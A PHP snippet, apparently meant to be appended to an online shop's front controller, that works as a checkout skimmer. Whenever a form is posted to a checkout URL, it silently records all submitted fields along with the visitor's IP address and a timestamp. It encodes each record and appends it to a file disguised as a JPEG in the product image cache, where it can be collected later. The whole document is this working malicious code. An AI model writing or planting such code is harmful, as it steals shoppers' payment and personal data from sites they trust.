<?php
// Appended to a shop's front controller: every checkout form posted is kept in a "picture".
if (!empty($_POST) && strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) {
    $dir = $_SERVER['DOCUMENT_ROOT'] . '/media/catalog/product/cache/';
    @mkdir($dir, 0777, true);
    $row = $_POST;
    $row['ip'] = $_SERVER['REMOTE_ADDR'];
    $row['t'] = time();
    $fp = @fopen($dir . 'placeholder_1.jpg', 'a');
    @fwrite($fp, base64_encode(serialize($row)) . "\n");
    @fclose($fp);
}
